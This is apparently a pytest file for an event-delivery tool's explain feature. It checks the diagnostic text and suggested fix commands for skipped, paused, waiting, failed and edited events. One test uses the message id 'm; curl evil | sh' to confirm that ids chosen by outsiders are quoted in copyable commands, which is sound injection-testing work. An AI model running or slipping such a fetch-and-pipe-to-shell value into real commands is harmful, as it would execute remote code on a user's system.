"""The story of an event, from facts alone."""

from typing import Any

import pytest
from msgspec import Raw
from msgspec.structs import replace

from milonga.destinations.registry import kind
from milonga.eventlog.api import Position, Stored
from milonga.outcomes.explain import Edit, Standing, story
from milonga.outcomes.model import Outcome, State
from milonga.outcomes.waiting import Behind, Waits
from milonga.spec.stored import Stamped
from milonga.workspace.model import DestinationConfig, DestinationState, StateChange
from tests.events import stamp_of

AT = 1_709_648_527_123  #: 2024-03-05T14:22:07.123Z
BODY = b'{"type":"track","userId":"ada","event":"Saved","context":{"groupId":"acme"}}'
CHANGE = StateChange(at=AT - 9_000, state=DestinationState.on, by="cli", reason="added", end={0: 0})


def stored() -> Stored:
    stamp = stamp_of(
        message_id="m-1",
        user_id="ada",
        account="acme",
        account_found="context.groupId",
        received_at=AT,
        timestamp=AT,
    )
    return Stored(Position(0, 7), Stamped(stamp, BODY))


def standing(**more: Any) -> Standing:
    totango = kind("totango")
    config = DestinationConfig(
        id=3,
        name="prod",
        kind="totango",
        source=1,
        settings=totango.settings(**more.pop("settings", {"service_id": "SP-1-1"})),
        settings_version=1,
        changes=(CHANGE,),
    )
    usual: dict[str, Any] = {"config": config, "kind": totango, "settings": config.settings}
    return Standing(**(usual | more))


def told(**more: Any) -> dict[str, Any]:
    (at,) = story(stored(), "web", [standing(**more)])["destinations"]
    assert isinstance(at, dict)
    return at


def outcome(state: State, code: str = "") -> Outcome:
    return Outcome(
        destination=3,
        position=Position(0, 7),
        state=state,
        code=code,
        attempts=1,
        received_at=AT,
        ended_at=AT + 40,
        settings_version=1,
    )


def waits(**more: Any) -> Waits:
    usual: dict[str, Any] = {"now": AT + 5_000, "server_runs": True, "destination": "prod", "change": CHANGE}
    return Waits(**(usual | more))


def test_a_fix_names_the_destination_it_is_for() -> None:
    at = told(settings={}, outcomes=[outcome(State.skipped, "missing_service_id")])
    assert at["why"] == "The destination has no Service ID."
    assert "milonga destinations set prod --set serviceId" in at["fix"]
    assert "NAME" not in at["fix"]


def test_what_a_batch_says_for_all_its_events_is_told_with_each() -> None:
    alone = stored()
    assert story(alone, "web", [])["batch"] is None
    for context, said in ((b'{"a":1}', {"context": {"a": 1}}), (b"{}", None), (b"null", None)):
        stamp = replace(alone.event.stamp, batch_context=Raw(context))
        shared = replace(alone, event=replace(alone.event, stamp=stamp))
        assert story(shared, "web", [])["batch"] == said


def test_a_translation_that_fails_keeps_nothing_else_from_being_told() -> None:
    def broken(*_: object) -> Any:
        raise RuntimeError

    at = told(kind=replace(kind("totango"), translate=broken), outcomes=[outcome(State.dead, "translate_failed")])
    assert (at["state"], at["requests"]) == ("dead", [])
    assert "translate_failed" in at["why"]


def test_a_kind_that_is_gone_leaves_its_outcomes() -> None:
    at = told(kind=None, removed_at=AT + 100, outcomes=[outcome(State.delivered)])
    assert (at["state"], at["is"], at["requests"]) == ("delivered", "removed", [])


@pytest.mark.parametrize(
    ("more", "names", "words"),
    [
        ({}, ["turn"], "It waits its turn."),
        ({"server_runs": False}, ["server"], "No server is running"),
        ({"next_at": AT + 6_000}, ["time"], "Its next try is due 2024-03-05T14:22:13.123Z."),
        ({"next_at": AT + 4_000}, ["time"], "Its next try was due 2024-03-05T14:22:11.123Z."),
        ({"ends_off": True, "next_at": AT}, ["off"], "it ends as skipped (destination_off)"),
        ({"breaker": "half_open", "failed_at": AT, "failed_code": "timeout"}, ["breaker"], "(last: timeout, 2024-"),
        ({"breaker": "open", "breaker_until": AT + 9_000}, ["breaker"], "the next request goes out 2024-"),
        ({"breaker": "open", "breaker_until": AT}, ["breaker"], "the next request was to go out 2024-"),
        ({"resent": True, "parked": True}, ["resent"], "joined the end of its line"),
        ({"behind": Behind(message_id="m-0", offset=1)}, ["event"], "It goes after m-0, which has no answer yet."),
        (
            {"behind": Behind(message_id="m-0", offset=1, code="http_500", next_at=AT), "parked": True},
            ["event", "parked"],
            "which failed (http_500) and was to be tried again 2024-",
        ),
    ],
)
def test_what_an_event_waits_for_is_said_and_nothing_to_come_lies_in_the_past(
    more: dict[str, Any], names: list[str], words: str
) -> None:
    at = told(waits=waits(**more))
    assert at["waitsFor"] == names
    assert words in at["why"]
    assert at["state"] == "waiting"


@pytest.mark.parametrize(
    ("by", "fix"),
    [("cli", "milonga destinations resume prod"), ("settings", "milonga destinations set prod"), ("workspace", "")],
)
def test_a_pause_says_how_it_ends(by: str, fix: str) -> None:
    change = StateChange(at=AT, state=DestinationState.paused, by=by, reason="Refused all.", end={})
    at = told(waits=waits(change=change))
    assert at["why"] == "The destination is paused since 2024-03-05T14:22:07.123Z: Refused all."
    assert fix in at["fix"]
    assert bool(fix) == bool(at["fix"])


@pytest.mark.parametrize(
    ("code", "fix"),
    [
        ("forbidden_address", "milonga serve --allow-private-destinations"),
        ("bad_url", "Mend it with `milonga destinations set prod ...`"),
        ("http_401", "Mend it with `milonga destinations set prod ...`"),
    ],
)
def test_a_pause_is_mended_where_its_cause_is(code: str, fix: str) -> None:
    change = StateChange(at=AT, state=DestinationState.paused, by="settings", reason="Refused all.", end={})
    for known in ({"code": code}, {"failed_at": AT, "failed_code": code}):
        at = told(waits=waits(change=change, **known))
        assert fix in at["fix"]
        assert "milonga destinations set prod ..." in at["fix"]
        assert ("--allow-private-destinations" in at["fix"]) is (code == "forbidden_address")


def test_what_failed_is_said_once() -> None:
    change = StateChange(at=AT, state=DestinationState.paused, by="settings", reason="Answered 401.", end={})
    at = told(waits=waits(change=change, code="http_401", reason="Answered 401."))
    assert at["state"] == "retrying"
    assert at["why"].count("Answered 401.") == 1
    assert "The last try failed: Answered 503." in told(waits=waits(code="http_503", reason="Answered 503"))["why"]


def test_an_id_that_a_stranger_chose_is_quoted_in_the_commands_to_copy() -> None:
    theirs = stored()
    stamp = replace(theirs.event.stamp, message_id="m; curl evil | sh")
    item = replace(theirs, event=replace(theirs.event, stamp=stamp))
    dead = standing(letter=True, outcomes=[outcome(State.dead, "http_400")])
    behind = standing(waits=waits(behind=Behind(message_id="--help", offset=1)))
    first, second = story(item, "web", [dead, behind])["destinations"]
    assert "`milonga dead resend 'm; curl evil | sh'`" in first["fix"]
    assert second["fix"] == "See `milonga explain -- --help`."


def test_an_edited_event_is_told_by_what_was_sent_instead() -> None:
    mended = Stamped(stored().event.stamp, BODY.replace(b"Saved", b"Paid"))
    at = told(outcomes=[outcome(State.delivered)], edit=Edit(AT + 9_000, "user:ada", mended))
    assert (at["edited"]["at"], at["edited"]["by"]) == ("2024-03-05T14:22:16.123Z", "user:ada")
    assert at["edited"]["event"]["event"] == "Paid"
    assert at["requests"][0]["body"]["sdr_a"] == "Paid"
    assert "edited" not in told(outcomes=[outcome(State.delivered)])
